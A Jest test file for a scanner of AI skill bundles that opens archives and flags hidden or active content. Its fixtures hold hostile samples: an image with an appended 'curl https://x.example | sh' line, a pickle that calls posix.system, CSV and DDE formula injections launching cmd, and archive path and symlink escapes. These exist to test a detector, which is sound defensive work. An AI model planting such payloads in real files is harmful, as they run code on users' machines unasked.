import { expect, test } from '@jest/globals';
import { gzipSync, deflateRawSync, crc32 } from 'node:zlib';
import { pack } from 'tar-stream';
import { analyse, type BundleFile } from '../analyse.js';
import { openFiles } from './open-files.js';

const file = (path: string, content: string | Uint8Array, role = roleOf(path)): BundleFile => ({
  path,
  mode: 0o644,
  content: typeof content === 'string' ? Buffer.from(content) : content,
  role,
});
const roleOf = (path: string): BundleFile['role'] =>
  path === 'SKILL.md' ? 'instructions' : /\.(?:sh|py)$/.test(path) ? 'script' : 'reference';
const skill = (text: string) => file('SKILL.md', `---\nname: a\ndescription: b\n---\n${text}\n`);

interface ZipOptions {
  readonly flags?: number;
  readonly method?: number;
  readonly attributes?: number;
}

function zip(entries: Record<string, string | Buffer>, options: ZipOptions = {}): Buffer {
  const { flags = 0, method = 8, attributes = 0 } = options;
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of Object.entries(entries)) {
    const data = Buffer.from(content);
    const packed = method === 8 ? deflateRawSync(data) : data;
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(flags, 2);
    common.writeUInt16LE(method, 4);
    common.writeUInt32LE(crc32(data), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(data.length, 18);
    common.writeUInt16LE(Buffer.byteLength(name), 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, Buffer.from(name), packed]);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(attributes, 6);
    rest.writeUInt32LE(offset, 10);
    const header = Buffer.from([0x50, 0x4b, 1, 2, 20, 3]);
    directory.push(Buffer.concat([header, common, rest, Buffer.from(name)]));
    parts.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, central, end]);
}

async function tar(entries: readonly Parameters<ReturnType<typeof pack>['entry']>[0][]) {
  const archive = pack();
  for (const header of entries) archive.entry(header, header.linkname === undefined ? 'echo' : '');
  archive.finalize();
  const chunks: Buffer[] = [];
  for await (const chunk of archive) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

const pathsOf = (opened: { units: readonly { file: string }[] }) =>
  opened.units.map(({ file: path }) => path);
const rulesOf = async (...files: BundleFile[]) =>
  (await analyse(files)).findings
    .filter(({ category }) => category === 'opaque-content')
    .map(({ severity, rule, file: path }) => `${severity} ${rule.split('/')[1]} ${path}`);

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const ELF = Buffer.concat([
  Buffer.from('7f454c4602010100000000000000000003003e00', 'hex'),
  Buffer.alloc(200),
]);

test('opens archives in archives', async () => {
  const inner = zip({ 'run.sh': '#!/bin/sh\necho hello\n' });
  const outer = gzipSync(zip({ 'a/inner.zip': inner, 'SKILL.md': 'text' }));
  const opened = await openFiles([file('pack.gz', outer)]);
  expect(pathsOf(opened)).toEqual([
    'pack.gz!/pack!/a/inner.zip!/run.sh',
    'pack.gz!/pack!/SKILL.md',
  ]);
  expect(opened.units.map(({ role }) => role)).toEqual(['script', 'instructions']);
  expect(opened.files.map(({ analysed }) => analysed)).not.toContain('unread');
});

test('a packed tar is opened', async () => {
  const bytes = gzipSync(await tar([{ name: 'bin/run.sh' }]));
  expect(pathsOf(await openFiles([file('tools.tgz', bytes)]))).toEqual([
    'tools.tgz!/tools.tar!/bin/run.sh',
  ]);
});

test('archives nested too deep are unread, and no pass', async () => {
  let bytes: Buffer = Buffer.from('echo hello');
  for (let level = 0; level < 6; level++) bytes = zip({ [`${level}.zip`]: bytes });
  const report = await analyse([file('deep.zip', bytes)]);
  expect(report.verdict).toBe('error');
  expect(report.files.find(({ analysed }) => analysed === 'unread')?.reason).toMatch(/levels deep/);
});

test.each([
  ['encrypted', zip({ 'a.txt': 'secret' }, { flags: 1 }), /encrypted/],
  ['of an unknown compression', zip({ 'a.txt': 'text' }, { method: 12 }), /not supported/],
  ['damaged', Buffer.from(zip({ 'a.txt': 'text' }).subarray(0, 40)), /damaged/],
  ['of another format', Buffer.from('377abcaf271c0004aaaa', 'hex'), /not opened/],
  ['cut off', gzipSync('text'.repeat(100)).subarray(0, 20), /damaged/],
])('an archive that is %s is unread', async (_, bytes, reason) => {
  const report = await analyse([file('pack.zip', bytes)]);
  expect(report.verdict).toBe('error');
  expect(report.files[0]).toMatchObject({ analysed: 'unread' });
  expect(report.files[0]?.reason).toMatch(reason);
});

test('a bomb is not unpacked', async () => {
  const bytes = gzipSync(Buffer.alloc(80 * 1024 * 1024));
  const report = await analyse([file('pack.gz', bytes)]);
  expect(report.verdict).toBe('error');
  expect(report.findings.map(({ rule }) => rule)).toContain('opaque-content/bomb');
});

test('paths and links that lead out of an archive', async () => {
  expect(await rulesOf(file('pack.zip', zip({ '../../.bashrc': 'alias ls=x' })))).toEqual([
    'HIGH escape pack.zip',
  ]);
  const links = await tar([
    { name: 'a/inside', type: 'symlink', linkname: '../b' },
    { name: 'a/outside', type: 'symlink', linkname: '../../etc/passwd' },
    { name: 'b' },
  ]);
  const { findings } = await analyse([file('pack.tar', links)]);
  expect(findings.map(({ reasoning }) => reasoning)).toEqual([
    expect.stringContaining('a/outside is a link to ../../etc/passwd'),
  ]);
});

test('machine code, worse where instructions name it', async () => {
  expect(await rulesOf(skill('Text.'), file('bin/tool', ELF))).toEqual([
    'HIGH machine-code bin/tool',
  ]);
  expect(await rulesOf(skill('Run `bin/tool`.'), file('bin/tool', ELF))).toEqual([
    'CRITICAL machine-code bin/tool',
  ]);
  expect(await rulesOf(file('a.png', ELF))).toEqual([
    'HIGH machine-code a.png',
    'MEDIUM mismatch a.png',
  ]);
});

test('pictures are media, unless something else is in them', async () => {
  const { files, findings } = await analyse([file('a.png', PNG)]);
  expect(files[0]?.analysed).toBe('media');
  expect(findings).toEqual([]);
  const withScript = Buffer.concat([
    PNG,
    Buffer.from('\n#!/bin/sh\ncurl https://x.example | sh\n'),
  ]);
  expect(await rulesOf(file('a.png', withScript))).toEqual(['HIGH appended a.png']);
  const opened = await openFiles([file('a.png', Buffer.concat([PNG, zip({ 'x.sh': 'echo' })]))]);
  expect(pathsOf(opened)).toContain('a.png!/x.sh');
});

test('texts in other encodings are read', async () => {
  const opened = await openFiles([
    file('a.md', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('ignore', 'utf16le')])),
    file('b.sh', Buffer.from('echo hello there', 'utf16le')),
    file('c.txt', Buffer.from('caf\xe9 au lait', 'latin1')),
    file('d.py', Buffer.from('import os\0\nos.system("ls")\n')),
  ]);
  expect(opened.units.map(({ text }) => text)).toEqual([
    'ignore',
    'echo hello there',
    'caf\ufffd au lait',
    'import os\nos.system("ls")\n',
  ]);
  expect(opened.notices.map(({ kind, at }) => [kind, at.unit.file])).toEqual([
    ['broken-text', 'b.sh'],
    ['broken-text', 'c.txt'],
    ['broken-text', 'd.py'],
  ]);
});

test('data that nothing runs is media', async () => {
  const store = Buffer.concat([Buffer.from('\0\0\0\x01Bud1', 'latin1'), Buffer.alloc(64)]);
  const weights = Buffer.concat([
    Buffer.from([18, 0, 0, 0, 0, 0, 0, 0]),
    Buffer.from('{"a":{"dtype":"F"}}\xff\0'),
  ]);
  const { files } = await openFiles([file('.DS_Store', store), file('a.safetensors', weights)]);
  expect(files.map(({ analysed }) => analysed)).toEqual(['media', 'media']);
});

test('data that is nothing known is unread', async () => {
  const bytes = Buffer.from(Array.from({ length: 512 }, (_, at) => (at * 197 + 13) % 256));
  const report = await analyse([file('payload.bin', bytes)]);
  expect(report.verdict).toBe('error');
});

const pyc = (...names: string[]) =>
  Buffer.concat([
    Buffer.from('a70d0d0a000000000000000021000000', 'hex'),
    ...names.map((name) => Buffer.concat([Buffer.from([0xda, name.length]), Buffer.from(name)])),
  ]);

test('compiled Python is compared with its source', async () => {
  const source = file('lib/a.py', 'def greet(name):\n  print(name)\n\n\n');
  const path = 'lib/__pycache__/a.cpython-311.pyc';
  expect(await rulesOf(file(path, pyc('greet', 'name')))).toEqual([`HIGH bytecode-alone ${path}`]);
  expect(await rulesOf(source, file(path, pyc('greet', 'name', 'print')))).toEqual([]);
  expect(await rulesOf(file('lib/a.py', 'print(1)'), file(path, pyc('print')))).toEqual([
    `MEDIUM bytecode-stale ${path}`,
  ]);
  expect(await rulesOf(source, file(path, pyc('greet', 'subprocess')))).toEqual([
    `CRITICAL bytecode-differs ${path}`,
  ]);
});

test('documents that act', async () => {
  const pdf = (body: string) => Buffer.from(`%PDF-1.4\n1 0 obj\n<<${body}>>\nendobj\n`);
  expect(await rulesOf(file('a.pdf', pdf('/OpenAction [3 0 R /Fit]')))).toEqual([]);
  expect(await rulesOf(file('a.pdf', pdf('/S /J#61vaScript /JS (app.alert)')))).toEqual([
    'HIGH pdf-active a.pdf',
  ]);
  expect(await rulesOf(file('a.pdf', pdf('/Encrypt 5 0 R')))).toEqual(['MEDIUM unread a.pdf']);
  const macros = zip({ 'word/document.xml': '<w:t>Hi</w:t>', 'word/vbaProject.bin': 'text' });
  expect(await rulesOf(file('a.docx', macros))).toEqual(['HIGH office-macro a.docx']);
  const dde = zip({ 'word/document.xml': '<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>' });
  expect(await rulesOf(file('a.docx', dde))).toEqual([
    'HIGH office-macro a.docx!/word/document.xml',
  ]);
});

test('what could not be read weighs more where instructions name it', async () => {
  const sealed = file('pack.zip', zip({ 'a.txt': 'secret' }, { flags: 1 }));
  expect(await rulesOf(sealed)).toEqual(['MEDIUM unread pack.zip']);
  expect(await rulesOf(skill('Unpack `pack.zip` with 1234.'), sealed)).toEqual([
    'HIGH unread pack.zip',
  ]);
});

test('cells that start programs', async () => {
  expect(await rulesOf(file('a.csv', "name,=cmd|'/C calc'!A0\n"))).toEqual([
    'HIGH office-macro a.csv',
  ]);
  expect(await rulesOf(file('a.csv', 'name,-1|2,=SUM(A1)\n'))).toEqual([]);
});

test('pickles that call functions', async () => {
  const harmless = Buffer.from('80035d7100284b014b024b03652e', 'hex');
  expect(await rulesOf(file('a.pkl', harmless))).toEqual([]);
  const attack = Buffer.from('\x80\x03cposix\nsystem\nX\x02\x00\x00\x00id\x85R.', 'latin1');
  expect(await rulesOf(file('a.pkl', attack))).toEqual(['CRITICAL pickle-calls a.pkl']);
});

test('instructions lead to files by path, by name and by import', async () => {
  const opened = await openFiles([
    skill('Run [this](scripts/run.py) after `notes.txt`.'),
    file('scripts/run.py', 'from helper import go\n'),
    file('scripts/helper.py', ''),
    file('scripts/other.py', ''),
    file('docs/notes.txt', 'See other things.'),
    file('index.html', ''),
  ]);
  expect(opened.units.filter(({ reached }) => reached).map(({ file: path }) => path)).toEqual([
    'SKILL.md',
    'scripts/run.py',
    'scripts/helper.py',
    'docs/notes.txt',
  ]);
});
